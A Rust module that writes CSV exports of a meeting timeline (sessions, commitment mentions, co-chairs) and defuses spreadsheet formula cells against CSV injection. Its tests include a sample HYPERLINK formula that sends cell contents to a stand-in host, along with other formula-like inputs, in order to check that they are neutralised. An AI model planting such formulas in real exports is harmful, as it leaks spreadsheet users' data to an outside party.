//! The CSV exports, for spreadsheets: `/timeline.csv` (one row per session),
//! `/commitments.csv` (one row per mention of a commitment) and `/co_chairs.csv` (one row
//! per co-chair of a session), RFC 4180 through the `csv` crate, written row by row into
//! the writer they are given. Each file's columns are one constant of [`Column`]s, which
//! the header row and the data dictionary page (`/data/`) both read, so the page cannot
//! describe a column the file lacks.
//!
//! Lists in a cell are joined with `; ` for reading; where a reader will want to filter
//! (co-chairs, commitments), a file of its own gives one row per item instead.

use std::io::Write;

use serde::Serialize;

use super::data::DataError;
use crate::content::schema::{CoChair, Status};
use crate::timeline::{Commitment, Mention, Session, SessionMention, Timeline};

/// A column of a CSV export and what it holds, in English (see the data dictionary).
#[derive(Debug, Clone, Copy, Serialize)]
pub struct Column {
    pub name: &'static str,
    pub about: &'static str,
}

const fn col(name: &'static str, about: &'static str) -> Column {
    Column { name, about }
}

/// The columns of `/timeline.csv`. New columns go at the end, so that programs reading
/// columns by position keep working.
pub const SESSION_COLUMNS: [Column; 21] = [
    col("session", "The session's ordinal number (1, 2, …)."),
    col("title", "The session's title."),
    col(
        "date",
        "The day the session was held, YYYY-MM-DD; empty when the date is not recorded.",
    ),
    col(
        "venue",
        "Where the session was held; empty when not recorded.",
    ),
    col("city", "The city; empty when not recorded."),
    col("country", "The country; empty when not recorded."),
    col(
        "co_chairs",
        "The co-chairs as \"name, role (partner)\", joined with \"; \", for reading; co_chairs.csv has one row per co-chair.",
    ),
    col(
        "delegates",
        "The number of delegates; \"~80\" when the sources give it as approximate; empty when not recorded.",
    ),
    col(
        "sectors",
        "Slugs of the sectors on the agenda, joined with \"; \".",
    ),
    col(
        "agreements",
        "Titles of the agreements, joined with \"; \"; empty when none or not recorded (timeline.json tells the two apart).",
    ),
    col(
        "commitments_introduced",
        "Ids of the commitments first put forward at this session, joined with \"; \".",
    ),
    col(
        "commitments_reviewed",
        "Ids of earlier commitments this session reviewed, joined with \"; \".",
    ),
    col(
        "sources",
        "Addresses (URLs) of the sources, joined with \"; \".",
    ),
    col(
        "summary",
        "The note's summary, or the first paragraph of its text.",
    ),
    col(
        "records_pending",
        "\"true\" when the note states none of the session's facts (no date, place, co-chairs, delegates, sectors, agreements or commitments).",
    ),
    col("url", "The address of the session's page."),
    col(
        "file",
        "The note the row comes from, below content/ in the site's sources.",
    ),
    col(
        "commitments",
        "Every commitment the session mentions, as \"title (status)\" with its status after the session, joined with \"; \"; commitments.csv has one row per mention.",
    ),
    col(
        "source_titles",
        "Titles of the sources, in the order of the sources column, joined with \"; \".",
    ),
    col("co_chair_count", "How many co-chairs the note records."),
    col(
        "agreements_recorded",
        "\"true\" when the note records the agreements (then an empty agreements cell means none), \"false\" when it does not.",
    ),
];

/// The columns of `/commitments.csv`.
pub const MENTION_COLUMNS: [Column; 12] = [
    col("commitment", "The commitment's id."),
    col("title", "The commitment's title."),
    col(
        "sectors",
        "Slugs of the commitment's sectors, joined with \"; \".",
    ),
    col("session", "The ordinal of the session that mentions it."),
    col(
        "date",
        "The date of that session, YYYY-MM-DD; empty when not recorded.",
    ),
    col(
        "status",
        "Its status after that session: proposed, agreed, in-progress, completed, dropped or superseded.",
    ),
    col(
        "previous_status",
        "Its status before that session; empty at the session that introduced it.",
    ),
    col(
        "introduced",
        "\"true\" at the session that introduced the commitment.",
    ),
    col("note", "What the session's note says of it."),
    col("session_url", "The address of the session's page."),
    col("commitment_url", "The address of the commitment's page."),
    col(
        "superseded_by",
        "The id of the commitment that replaced this one, when it was superseded; empty otherwise.",
    ),
];

/// The columns of `/co_chairs.csv`.
pub const CO_CHAIR_COLUMNS: [Column; 7] = [
    col("session", "The ordinal of the session."),
    col(
        "date",
        "The date of the session, YYYY-MM-DD; empty when not recorded.",
    ),
    col(
        "position",
        "The co-chair's place in the note's list (1, 2, …).",
    ),
    col("name", "The co-chair's name."),
    col("role", "Their office; empty when not recorded."),
    col(
        "partner",
        "The partner they represented; empty when not recorded.",
    ),
    col("session_url", "The address of the session's page."),
];

/// The header row of `columns`.
fn header<const N: usize>(columns: &[Column; N]) -> [&'static str; N] {
    columns.map(|c| c.name)
}

fn join<T>(items: &[T], f: impl Fn(&T) -> String) -> String {
    items.iter().map(f).collect::<Vec<_>>().join("; ")
}

pub(super) fn co_chair(c: &CoChair) -> String {
    match (&c.role, &c.partner) {
        (Some(r), Some(p)) => format!("{}, {r} ({p})", c.name),
        (Some(r), None) => format!("{}, {r}", c.name),
        (None, Some(p)) => format!("{} ({p})", c.name),
        (None, None) => c.name.clone(),
    }
}

fn session_row(base: &str, s: &Session) -> [String; 21] {
    let opt = |o: &Option<String>| o.clone().unwrap_or_default();
    let ids = |introduced: bool| {
        let picked: Vec<&SessionMention> = s
            .commitments
            .iter()
            .filter(|c| c.introduced == introduced)
            .collect();
        join(&picked, |c| c.id.to_string())
    };
    [
        s.ordinal.to_string(),
        s.title.clone(),
        s.date.map(|d| d.to_string()).unwrap_or_default(),
        opt(&s.venue),
        opt(&s.city),
        opt(&s.country),
        join(&s.co_chairs, co_chair),
        // `~80` when approximate, as the note writes it.
        s.delegates.map(|d| d.to_string()).unwrap_or_default(),
        join(&s.sectors, |x| x.slug.clone()),
        join(s.agreements(), |a| a.title.clone()),
        ids(true),
        ids(false),
        join(&s.sources, |x| x.url.clone()),
        opt(&s.summary),
        s.records_pending.to_string(),
        format!("{base}{}", s.path),
        s.rel.clone(),
        join(&s.commitments, |c| {
            format!("{} ({})", c.title, c.status.as_str())
        }),
        join(&s.sources, |x| x.title.clone()),
        s.co_chairs.len().to_string(),
        s.agreements.is_some().to_string(),
    ]
}

/// A CSV writer into `out` as RFC 4180 asks: comma-separated, CRLF line endings, fields
/// quoted when they hold a comma, a quote or a line break.
pub(super) fn writer(out: &mut dyn Write) -> csv::Writer<&mut dyn Write> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out)
}

/// A cell that a spreadsheet would take for a formula (it starts with `=`, `+`, `-`, `@`, a
/// tab or a carriage return) gets a leading `'`, as OWASP recommends against CSV injection.
/// `timeline.json` keeps the text as written.
pub(super) fn defused(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// `/timeline.csv`: a header and one row per session.
pub fn sessions_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
    let mut w = writer(out);
    w.write_record(header(&SESSION_COLUMNS))?;
    for s in &t.sessions {
        w.write_record(session_row(&t.meta.base_url, s).map(defused))?;
    }
    // Flushed here: dropping the writer would flush too, but swallow the error.
    w.flush().map_err(DataError::CsvFlush)
}

fn mention_row(base: &str, c: &Commitment, m: &Mention) -> [String; 12] {
    [
        c.id.to_string(),
        c.title.to_string(),
        join(&c.sectors, |x| x.slug.clone()),
        m.session.to_string(),
        m.date.map(|d| d.to_string()).unwrap_or_default(),
        m.status.as_str().to_string(),
        m.previous
            .map(Status::as_str)
            .unwrap_or_default()
            .to_string(),
        (m.session == c.introduced).to_string(),
        m.note.as_deref().unwrap_or_default().to_string(),
        format!("{base}{}", m.session_path),
        format!("{base}{}", c.path),
        c.superseded_by.clone().unwrap_or_default(),
    ]
}

/// `/commitments.csv`: a header and one row per mention, by commitment then session.
pub fn commitments_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
    let mut w = writer(out);
    w.write_record(header(&MENTION_COLUMNS))?;
    for c in t.commitments.iter() {
        for m in &c.history {
            w.write_record(mention_row(&t.meta.base_url, c, m).map(defused))?;
        }
    }
    w.flush().map_err(DataError::CsvFlush)
}

/// `/co_chairs.csv`: a header and one row per co-chair, by session then place in the list.
pub fn co_chairs_csv(t: &Timeline, out: &mut dyn Write) -> Result<(), DataError> {
    let mut w = writer(out);
    w.write_record(header(&CO_CHAIR_COLUMNS))?;
    for s in &t.sessions {
        for (i, c) in s.co_chairs.iter().enumerate() {
            let row = [
                s.ordinal.to_string(),
                s.date.map(|d| d.to_string()).unwrap_or_default(),
                (i + 1).to_string(),
                c.name.clone(),
                c.role.clone().unwrap_or_default(),
                c.partner.clone().unwrap_or_default(),
                format!("{}{}", t.meta.base_url, s.path),
            ];
            w.write_record(row.map(defused))?;
        }
    }
    w.flush().map_err(DataError::CsvFlush)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(write: impl FnOnce(&mut dyn Write) -> Result<(), DataError>) -> String {
        let mut out = Vec::new();
        write(&mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn csv_quotes_hostile_text() {
        let bytes = text(|out| {
            let mut w = writer(out);
            w.write_record(["a,b", "say \"hi\"", "x\ny"])?;
            w.flush().map_err(DataError::CsvFlush)
        });
        assert_eq!(bytes, "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\"\r\n");
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_defused() {
        let hostile = [
            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ];
        for cell in hostile {
            assert_eq!(defused(cell.to_string()), format!("'{cell}"));
        }
        for cell in ["Plain", "2025-01-01", "https://example.org/", "", "a=b"] {
            assert_eq!(defused(cell.to_string()), cell);
        }
        let mut t = crate::output::opendata::sample();
        let s = std::sync::Arc::make_mut(&mut t.sessions[0]);
        s.title = "=1+2".into();
        s.co_chairs.push(CoChair {
            name: "@chair".into(),
            role: Some("-role".into()),
            partner: Some("+p".into()),
            lang: None,
            role_lang: None,
        });
        let sessions = text(|out| sessions_csv(&t, out));
        assert!(sessions.contains(",'=1+2,"), "{sessions}");
        let chairs = text(|out| co_chairs_csv(&t, out));
        assert!(chairs.contains(",'@chair,'-role,'+p,"), "{chairs}");
        let v: serde_json::Value =
            serde_json::from_slice(text(|out| super::super::data::json(&t, out)).as_bytes())
                .unwrap();
        assert_eq!(v["sessions"][0]["title"], "=1+2");
    }

    #[test]
    fn co_chairs_read_naturally() {
        let c = CoChair {
            name: "A".into(),
            role: Some("Secretary".into()),
            partner: Some("India".into()),
            lang: None,
            role_lang: None,
        };
        assert_eq!(co_chair(&c), "A, Secretary (India)");
    }

    #[test]
    fn csv_exports_of_a_sample_timeline() {
        let t = crate::output::opendata::sample();
        let sessions = text(|out| sessions_csv(&t, out));
        assert_eq!(sessions.lines().count(), 3);
        assert!(sessions.contains("\"First, <b>; \\ done\""));
        assert!(
            sessions.contains(",Wind tunnel (proposed),R,0,false\r\n"),
            "{sessions}"
        );
        let mentions = text(|out| commitments_csv(&t, out));
        assert!(mentions.contains("\r\ntunnel,Wind tunnel,,2,,agreed,proposed,false,Go,"));
        assert!(
            mentions.ends_with("/commitments/tunnel/,\r\n"),
            "{mentions}"
        );
        assert_eq!(text(|out| co_chairs_csv(&t, out)).lines().count(), 1);
    }
}
